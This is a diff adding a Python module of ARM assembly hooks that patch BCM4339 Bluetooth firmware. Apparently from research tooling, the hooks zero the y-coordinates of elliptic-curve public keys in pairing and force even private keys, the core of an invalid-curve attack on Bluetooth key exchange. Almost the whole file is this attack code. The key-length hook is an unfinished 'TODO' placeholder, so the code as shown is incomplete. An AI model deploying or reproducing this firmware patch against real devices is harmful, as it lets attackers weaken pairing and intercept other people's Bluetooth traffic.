@@ -0,0 +1,69 @@
+#!/usr/bin/env python2
+
+"""
+Hook code used by bla.py. It is kept in its own module so build_hooks.py
+can assemble it ahead of time (see _hooks_blob.py).
+"""
+
+# Address of the patch
+HOOKS_LOCATION = 0xd7800
+
+ASM_HOOKS = """
+// pwntools prepends '.arch armv7-a' which makes 'as' prefer 32-bit encodings
+// in some cases. The BCM4339 is a Cortex-M3 (ARMv7-M) and the last directive
+// wins, so select the target explicitly.
+.cpu cortex-m3
+.syntax unified
+.thumb
+
+b pk_recv_hook  // HOOKS_LOCATION
+b pk_send_hook  // HOOKS_LOCATION+2
+b gen_priv_key  // HOOKS_LOCATION+4
+b key_req_hook  // HOOKS_LOCATION+6
+
+// overwrite key length
+key_req_hook:
+    TODO
+
+// overwrite y-coordinate of received PK point
+pk_recv_hook:
+    push {r0-r6,lr}
+    strb.w  r0, [r4, 170]
+    movw r0, 0x5614     // r0 = 0x205614 without a literal pool load
+    movt r0, 0x20
+    movs r1, 0
+    movs r2, 0
+    movs r3, 0
+    movs r4, 0
+    movs r5, 0
+    movs r6, 0
+    stmia r0!, {r1-r6}  // zero all 6 words with one store
+    pop {r0-r6,pc}
+
+// overwrite y-coordinate of own PK point before sending it out
+pk_send_hook:
+    push {r4-r7}
+    add r2, r0, 24
+    movs r1, 0
+    movs r3, 0
+    movs r4, 0
+    movs r5, 0
+    movs r6, 0
+    movs r7, 0
+    stmia r2!, {r1,r3-r7}  // zero all 6 words with one store
+    pop {r4-r7}
+    b 0x2FFC4
+
+// generate a priv key which is always even
+// This has to stay a function with its own frame: a tail call ('b 0x48E96')
+// would return to the ROM caller before the BIC, and the ROM code after the
+// call (0x48EBE) can't be patched as well without another patchram slot.
+gen_priv_key:
+    push {r4,lr}
+    mov r4, r0      // r0 points to the priv key buffer (r1 is passed through)
+    bl 0x48E96      // generate new priv key
+    ldr r2, [r4]
+    bic r2, r2, 1   // clear the LSB instead of generating keys until one is even
+    str r2, [r4]
+    pop {r4,pc}
+"""